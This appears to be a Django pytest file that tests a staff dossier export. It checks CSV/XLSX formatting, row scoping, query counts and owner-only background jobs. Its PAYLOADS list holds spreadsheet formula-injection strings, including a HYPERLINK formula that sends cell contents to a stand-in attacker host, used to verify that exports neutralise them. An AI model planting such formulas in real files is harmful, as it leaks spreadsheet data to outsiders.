"""Exports of the staff dossier list: exactly the list's rows (scope and filters), CSV and XLSX with no
cell a spreadsheet would run, a constant number of queries, large exports in the background for their
owner only."""

import csv
import io
from datetime import datetime
from decimal import Decimal

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from dossiers.models import Dossier, Territory
from exports.enums import ExportStatus
from exports.models import ExportJob
from payments.models import PaymentKind, PaymentRequest, RequestState
from tests.factories import OrganisationFactory, make_dossier, make_user
from workflows.enums import DossierState, Role

pytestmark = pytest.mark.django_db

CSV_URL = "exports:dossiers_csv"
XLSX_URL = "exports:dossiers_xlsx"
LIST_URL = "instruction:process_list"
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Clic")', "+1", "-1", "@SUM(A1:A2)", "\tx", "\rx"]
TITLE, SPONSOR, STATE, REQUESTED, PAID, SUBMITTED = 1, 2, 10, 11, 14, 15


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    text = body(response).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))


def xlsx_rows(response) -> list[tuple]:
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(body(response))).worksheets[0]
    return list(sheet.iter_rows())


def titled(title, **kwargs):
    dossier = make_dossier(DossierState.SUBMITTED, **kwargs)
    Dossier.objects.filter(pk=dossier.pk).update(title=title)
    return dossier


def test_formula_characters_are_quoted_away_in_csv_and_xlsx(client, officer, contract):
    for payload in PAYLOADS:
        titled(payload, contract=contract)
    client.force_login(officer)

    rows = csv_rows(client.post(reverse(CSV_URL)))
    assert sorted(row[TITLE] for row in rows[1:]) == sorted("'" + payload for payload in PAYLOADS)

    cells = xlsx_rows(client.post(reverse(XLSX_URL)))
    titles = [row[TITLE] for row in cells[1:]]
    assert all(cell.data_type == "s" and isinstance(cell.value, str) for cell in titles)
    # An XML reader turns the carriage return into a line feed; what matters is the quote before it.
    expected = sorted("'" + payload.replace("\r", "\n") for payload in PAYLOADS)
    assert sorted(cell.value.replace("\r", "\n") for cell in titles) == expected
    assert not any(cell.data_type == "f" for row in cells for cell in row)


def test_a_sponsor_name_starting_with_a_formula_character_is_quoted_away_too(client, officer, contract):
    make_dossier(DossierState.SUBMITTED, contract=contract, organisation=OrganisationFactory(name="=1+1"))
    client.force_login(officer)

    assert csv_rows(client.post(reverse(CSV_URL)))[1][SPONSOR] == "'=1+1"
    assert xlsx_rows(client.post(reverse(XLSX_URL)))[1][SPONSOR].value == "'=1+1"


def _pay(dossier, *amounts):
    for amount in amounts:
        request = PaymentRequest.objects.create(
            dossier=dossier, kind=PaymentKind.INSTALMENT, created_by=dossier.created_by, payable=Decimal(amount)
        )
        PaymentRequest.objects.filter(pk=request.pk).update(state=RequestState.PAID)
    # A request not yet paid counts for nothing.
    PaymentRequest.objects.create(
        dossier=dossier, kind=PaymentKind.BALANCE, created_by=dossier.created_by, payable=Decimal("999")
    )


def test_amounts_are_numbers_and_dates_are_dates_in_xlsx_and_french_in_csv(client, officer, contract):
    dossier = make_dossier(DossierState.IN_PAYMENT, contract=contract)
    _pay(dossier, "10000.00", "2500.50")
    client.force_login(officer)

    row = csv_rows(client.post(reverse(CSV_URL)))[1]
    assert row[REQUESTED : PAID + 1] == ["80000,00", "80000,00", "80000,00", "12500,50"]
    assert row[SUBMITTED] == f"{dossier.submitted_at.astimezone():%d/%m/%Y}"
    assert row[-1] == f"{dossier.notified_on:%d/%m/%Y}"

    cells = xlsx_rows(client.post(reverse(XLSX_URL)))[1]
    assert [cell.value for cell in cells[REQUESTED : PAID + 1]] == [80000, 80000, 80000, 12500.5]
    assert all(cell.data_type == "n" and cell.number_format == "#,##0.00" for cell in cells[REQUESTED : PAID + 1])
    assert isinstance(cells[-1].value, datetime) and cells[-1].value.date() == dossier.notified_on
    assert cells[-1].is_date


def test_the_export_holds_exactly_the_rows_of_the_list_with_its_filters(client, officer, contract):
    for state in (DossierState.SUBMITTED, DossierState.SUBMITTED, DossierState.APPROVED, DossierState.REVIEWED):
        make_dossier(state, contract=contract)
    titled("Gymnase intercommunal", contract=contract)
    titled("Gymnase scolaire", contract=contract)
    client.force_login(officer)

    for filters in ({}, {"state": "submitted"}, {"q": "gymnase"}, {"state": "submitted", "q": "SCOLAIRE"}):
        listed = [d.reference for d in client.get(reverse(LIST_URL), filters).context["page_obj"]]
        exported = [row[0] for row in csv_rows(client.post(reverse(CSV_URL), filters))[1:]]
        in_xlsx = [row[0].value for row in xlsx_rows(client.post(reverse(XLSX_URL), filters))[1:]]
        assert exported == listed == in_xlsx, filters
        assert listed
    assert len(listed) == 1


def test_an_officer_of_another_territory_exports_none_of_the_rows(client, contract, other_territory):
    make_dossier(DossierState.SUBMITTED, contract=contract)
    stranger = make_user(Role.OFFICER, territory=other_territory)
    client.force_login(stranger)

    # The header alone.
    assert len(csv_rows(client.post(reverse(CSV_URL)))) == 1
    assert len(xlsx_rows(client.post(reverse(XLSX_URL)))) == 1


def test_finance_exports_the_dossiers_it_sees_only(client, finance, contract):
    granted = make_dossier(DossierState.NOTIFIED, contract=contract)
    make_dossier(DossierState.SUBMITTED, contract=contract)
    client.force_login(finance)

    assert [row[0] for row in csv_rows(client.post(reverse(CSV_URL)))[1:]] == [granted.reference]


def test_a_sponsor_gets_a_404_on_every_export_url(client, contract):
    dossier = make_dossier(DossierState.SUBMITTED, contract=contract)
    client.force_login(dossier.created_by)

    for name in (CSV_URL, XLSX_URL):
        assert client.post(reverse(name)).status_code == 404
    assert client.get(reverse("exports:index")).status_code == 404


def _export_queries(client, name, count) -> int:
    with CaptureQueriesContext(connection) as queries:
        response = client.post(reverse(name))
        assert len(body(response)) > 0
    return len(queries)


@pytest.mark.parametrize("name", [CSV_URL, XLSX_URL])
def test_an_export_runs_the_same_number_of_queries_for_2_or_10_dossiers(client, officer, contract, name):
    client.force_login(officer)
    dossiers = [make_dossier(DossierState.NOTIFIED, contract=contract) for _ in range(2)]
    _pay(dossiers[0], "10")
    two = _export_queries(client, name, 2)
    dossiers += [make_dossier(DossierState.NOTIFIED, contract=contract) for _ in range(8)]
    for dossier in dossiers[1:]:
        _pay(dossier, "10")

    assert _export_queries(client, name, 10) == two


def _start_large_export(client, user, settings, callbacks, name=CSV_URL, data=None):
    settings.EXPORTS_SYNC_MAX_ROWS = 2
    client.force_login(user)
    with callbacks(execute=True):
        response = client.post(reverse(name), data or {})
    assert response.status_code == 302 and response.url == reverse("exports:index")
    return ExportJob.objects.filter(owner=user).first()


@pytest.mark.parametrize("name", [CSV_URL, XLSX_URL])
def test_a_large_export_runs_in_the_background_and_only_its_owner_downloads_it(
    client, officer, contract, territory, settings, django_capture_on_commit_callbacks, name
):
    references = {make_dossier(DossierState.SUBMITTED, contract=contract).reference for _ in range(3)}

    job = _start_large_export(client, officer, settings, django_capture_on_commit_callbacks, name)

    assert job.status == ExportStatus.DONE and job.rows_done == job.rows_total == 3
    page = client.get(reverse("exports:index"))
    assert reverse("exports:download", args=[job.pk]) in page.content.decode()
    download = client.get(reverse("exports:download", args=[job.pk]))
    if name == CSV_URL:
        assert {row[0] for row in csv_rows(download)[1:]} == references
    else:
        assert {row[0].value for row in xlsx_rows(download)[1:]} == references
    assert download["Content-Disposition"].startswith("attachment")
    colleague = make_user(Role.OFFICER, territory=territory)
    for user in (colleague, make_user(Role.ADMINISTRATOR), make_user(Role.FINANCE)):
        client.force_login(user)
        assert client.get(reverse("exports:download", args=[job.pk])).status_code == 404
        assert reverse("exports:download", args=[job.pk]) not in client.get(reverse("exports:index")).content.decode()


def test_the_background_export_keeps_the_filters_and_saves_its_progress(
    client, officer, contract, settings, django_capture_on_commit_callbacks, monkeypatch
):
    from exports import services

    monkeypatch.setattr(services, "PROGRESS_EVERY", 2)
    saved = []
    update = ExportJob.objects.none().update.__func__

    def spy(queryset, **fields):
        if "rows_done" in fields:
            saved.append(fields["rows_done"])
        return update(queryset, **fields)

    monkeypatch.setattr(type(ExportJob.objects.none()), "update", spy)
    for _ in range(5):
        make_dossier(DossierState.SUBMITTED, contract=contract)
    make_dossier(DossierState.APPROVED, contract=contract)

    job = _start_large_export(
        client, officer, settings, django_capture_on_commit_callbacks, data={"state": "submitted"}
    )

    assert job.filters == {"state": "submitted", "q": ""}
    assert job.rows_total == job.rows_done == 5
    assert saved[:4] == [0, 2, 4, 5]


def test_the_background_export_applies_the_owners_scope_when_it_runs(
    client, officer, contract, territory, settings, django_capture_on_commit_callbacks
):
    from dossiers.services import territory_unassign_officer

    for _ in range(3):
        make_dossier(DossierState.SUBMITTED, contract=contract)
    settings.EXPORTS_SYNC_MAX_ROWS = 2
    client.force_login(officer)
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        client.post(reverse(CSV_URL))
    territory_unassign_officer(territory=Territory.objects.get(pk=territory.pk), user=officer)
    for callback in callbacks:
        callback()

    job = ExportJob.objects.get(owner=officer)
    assert job.status == ExportStatus.DONE and job.rows_total == 0
    assert len(csv_rows(client.get(reverse("exports:download", args=[job.pk])))) == 1  # the header alone


def test_one_export_at_a_time_per_user(client, officer, contract, settings, django_capture_on_commit_callbacks):
    for _ in range(3):
        make_dossier(DossierState.SUBMITTED, contract=contract)
    settings.EXPORTS_SYNC_MAX_ROWS = 2
    client.force_login(officer)
    with django_capture_on_commit_callbacks(execute=False):
        client.post(reverse(CSV_URL))
        page = client.post(reverse(XLSX_URL), follow=True)

    assert ExportJob.objects.filter(owner=officer).count() == 1
    job = ExportJob.objects.get(owner=officer)
    assert job.status == ExportStatus.QUEUED
    # While it waits, "My exports" refreshes itself and offers no download.
    html = page.content.decode()
    assert 'http-equiv="refresh"' in html
    assert reverse("exports:download", args=[job.pk]) not in html
    assert client.get(reverse("exports:download", args=[job.pk])).status_code == 404


def test_the_dossier_list_offers_both_exports_with_its_filters(client, officer, contract):
    client.force_login(officer)

    html = client.get(reverse(LIST_URL), {"state": "submitted", "q": "gym"}).content.decode()

    assert reverse(CSV_URL) in html and reverse(XLSX_URL) in html
    assert 'name="state" value="submitted"' in html and 'name="q" value="gym"' in html
